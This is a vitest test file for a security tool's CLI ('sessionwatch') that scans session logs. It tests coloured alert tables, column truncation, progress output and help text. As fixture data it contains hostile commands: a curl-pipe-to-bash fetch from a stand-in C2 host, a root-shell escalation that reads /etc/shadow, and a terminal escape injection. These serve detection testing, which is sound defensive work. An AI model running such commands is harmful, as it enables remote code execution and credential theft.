import { join } from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { alertTable } from '../../../forwarder/cli/alert-table.js';
import type { CliIo } from '../../../forwarder/cli/io.js';
import { main } from '../../../forwarder/cli/main.js';
import { Progress } from '../../../forwarder/cli/progress.js';
import { renderTable } from '../../../forwarder/cli/table.js';
import { runCli } from '../../helpers/cli.js';
import { fixturesDir, sessionsDir } from '../../helpers/paths.js';

const ESC = '\x1b[';
const MALLORY = join(sessionsDir, 'mallory-09f8e7d6c5b4a3921.log');
const JDOE = join(sessionsDir, 'jdoe@example.com-k3v9q2m8x1c7b5n4z0p6r2t8wa.log');

/** A stream that says it is a terminal (or not), collecting what is written. */
function terminal(isTTY: boolean, columns = 120) {
  let text = '';
  const stream = Object.assign(
    new Writable({
      write(chunk, _e, done) {
        text += chunk.toString();
        done();
      },
    }),
    { isTTY, columns },
  );
  return { stream, text: () => text };
}

async function run(args: string[], options: { tty: boolean; env?: NodeJS.ProcessEnv; columns?: number }) {
  const out = terminal(options.tty, options.columns);
  const err = terminal(options.tty, options.columns);
  const io: CliIo = { stdout: out.stream, stderr: err.stream, stdin: new PassThrough(), env: options.env ?? {} };
  const code = await main(args, io);
  return { code, stdout: out.text(), stderr: err.text() };
}

describe('colour', () => {
  const scan = ['scan', MALLORY, '--ioc', join(fixturesDir, 'iocs.txt')];

  it('on a terminal the alert table is coloured by severity', async () => {
    const { code, stdout } = await run(scan, { tty: true });
    expect(code).toBe(0);
    expect(stdout).toContain(`${ESC}1;31mHIGH`);
  });

  it('never with NO_COLOR, --no-color, or when stdout is not a terminal', async () => {
    for (const r of [
      await run(scan, { tty: true, env: { NO_COLOR: '1' } }),
      await run([...scan, '--no-color'], { tty: true }),
      await run([...scan, '--format', 'table'], { tty: false }),
      await runCli([...scan, '--format', 'table'], { env: { NO_COLOR: '' } }),
    ]) {
      expect(r.stdout).toContain('HIGH');
      expect(r.stdout).not.toContain(ESC);
      expect(r.stderr).not.toContain(ESC);
    }
  });

  it('NO_COLOR set but empty does not count (no-color.org), a terminal still gets colour', async () => {
    const { stdout } = await run(scan, { tty: true, env: { NO_COLOR: '' } });
    expect(stdout).toContain(ESC);
  });

  it('rules test marks passes and failures in colour only on a terminal', async () => {
    expect((await run(['rules', 'test'], { tty: true })).stdout).toContain(`${ESC}32m✓`);
    expect((await run(['rules', 'test'], { tty: true, env: { NO_COLOR: '1' } })).stdout).not.toContain(ESC);
  });
});

describe('tables stay readable', () => {
  it('long session ids are cut in the middle, the command comes last and gets the room', async () => {
    const { stdout } = await run(['commands', JDOE, '--format', 'table', '--no-color'], { tty: true, columns: 100 });
    const lines = stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^SESSION\s+SEQ\s.*COMMAND$/);
    expect(lines.find((l) => l.includes('curl'))).toMatch(/^jdoe@example\.com-k3v9q2…r2t8wa /);
    for (const l of lines) expect([...l].length).toBeLessThanOrEqual(100);
    expect(lines[0]).not.toContain('CWD'); // optional columns left out so the command keeps its room
    expect(stdout).toContain('curl -so- http://c2.evil-updates.example/a.sh | b…');
    const wide = await run(['commands', JDOE, '--format', 'table', '--no-color'], { tty: true, columns: 160 });
    expect(wide.stdout.split('\n')[0]).toMatch(/^SESSION\s+SEQ\s+TIME\s+USER\s+CWD\s+FLAGS\s+COMMAND$/);
    expect(wide.stdout).toContain('curl -so- http://c2.evil-updates.example/a.sh | bash\n');
  });

  it('on a narrow terminal optional columns go before the command is squeezed', () => {
    const header = ['SEVERITY', { header: 'RULE', drop: 2 }, { header: 'INSTANCE', drop: 4 }, 'COMMAND'];
    const rows = [
      ['HIGH', 'sw-privesc-root-shell', 'i-0f1e2d3c4b5a69788', 'sudo su - && id && uname -a && cat /etc/shadow'],
    ];
    const wide = renderTable(header, rows, 160);
    expect(wide.split('\n')[0]).toMatch(/^SEVERITY\s+RULE\s+INSTANCE\s+COMMAND$/);
    const narrow = renderTable(header, rows, 80);
    expect(narrow.split('\n')[0]).toMatch(/^SEVERITY\s+RULE\s+COMMAND$/);
    expect(narrow).toContain('sudo su - && id && uname -a && cat /etc/shadow');
    const tiny = renderTable(header, rows, 50);
    expect(tiny.split('\n')[0]).toMatch(/^SEVERITY\s+COMMAND$/);
  });

  it('control characters in commands never reach the terminal', () => {
    const table = alertTable(
      [
        {
          severity: 'high',
          ruleId: 'r',
          category: 'discovery',
          sessionId: 's',
          command: 'echo \x1b]0;pwned\x07 \x1b[2J',
          instanceId: null,
          actor: null,
          user: null,
        } as never,
      ],
      120,
    );
    expect(table).not.toContain('\x1b');
    expect(table).toContain('\\x1b]0;pwned\\x07');
  });
});

describe('progress', () => {
  it('draws bytes, throughput, sessions and files on one line, at most every 100 ms, and erases itself', async () => {
    let now = 0;
    const err = terminal(true, 200);
    const progress = new Progress(err.stream, { totalBytes: 4_000_000, totalFiles: 1, now: () => now });
    async function* bytes() {
      for (let i = 0; i < 4; i++) {
        now += 150;
        yield new Uint8Array(1_000_000);
      }
    }
    async function* inputs() {
      yield { name: 'a.log', open: bytes };
    }
    for await (const input of progress.track(inputs())) for await (const _ of input.open());
    progress.session();
    const frames = err.text().split('\r').filter(Boolean);
    // nothing for the first 400 ms, then one frame per chunk (150 ms apart)
    expect(frames).toEqual([
      expect.stringMatching(/^█{15}░{5} {2}75% {2}3\.0\/4\.0 MB {2}6\.7 MB\/s {2}0 sessions {2}0\/1 files\x1b\[K$/),
      expect.stringMatching(/^█{20} 100% {2}4\.0\/4\.0 MB {2}6\.7 MB\/s {2}0 sessions {2}0\/1 files\x1b\[K$/),
    ]);
    now += 50;
    progress.session(); // within 100 ms of the last frame: not drawn
    expect(err.text().split('\r').filter(Boolean)).toHaveLength(2);
    progress.done();
    expect(err.text().endsWith('\r\x1b[K')).toBe(true);
  });

  it('without a total (S3, stdin) it counts what it read', () => {
    const progress = new Progress(terminal(true).stream, { now: () => 2000 });
    expect(progress.line(4000)).toBe('reading 0.0 MB  0.0 MB/s  0 sessions  0 files');
  });

  it('is never shown when stderr is not a terminal', async () => {
    const { stderr } = await run(['scan', sessionsDir, '--format', 'jsonl'], { tty: false });
    expect(stderr).not.toContain('MB/s');
    expect(stderr).not.toContain('\r');
  });
});

describe('--help on every command, with examples', () => {
  for (const command of ['demo', 'scan', 'commands', 'report', 'replay', 'rules', 'redrive', 'coverage', 'posture']) {
    it(`${command} --help`, async () => {
      const { code, stdout, stderr } = await run([command, '--help'], { tty: false });
      expect(code).toBe(0);
      expect(stderr).toBe('');
      expect(stdout).toMatch(/^Usage: sessionwatch /);
      expect(stdout).toMatch(/\nExamples:\n {2}(?:sessionwatch|npm) /);
    });
  }

  it('sessionwatch --help lists every command', async () => {
    const { code, stdout } = await run(['--help'], { tty: false });
    expect(code).toBe(0);
    for (const c of ['demo', 'scan', 'commands', 'report', 'replay', 'rules', 'redrive']) {
      expect(stdout).toMatch(new RegExp(`\\n  ${c} +\\S`));
    }
  });

  it('an unknown option or command is exit 2 with the reason', async () => {
    const unknownOption = await run(['report', MALLORY, '--colour'], { tty: false });
    expect(unknownOption.code).toBe(2);
    expect(unknownOption.stderr).toMatch(/^sessionwatch report: Unknown option '--colour'/);
    const missing = await run(['scan', '/nonexistent/x.log'], { tty: false });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toBe('sessionwatch scan: cannot read /nonexistent/x.log: no such file or directory\n');
    const replay = await run(['replay', MALLORY], { tty: false });
    expect(replay.code).toBe(2);
    expect(replay.stderr).toContain('--cast FILE is required');
  });
});
